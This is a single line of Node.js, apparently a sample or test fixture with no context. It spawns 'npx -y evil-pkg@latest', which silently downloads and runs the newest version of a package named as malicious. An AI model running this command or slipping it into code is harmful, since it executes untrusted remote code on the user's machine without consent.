require('child_process').spawnSync('npx', ['-y', 'evil-pkg@latest'], { stdio: 'inherit' });
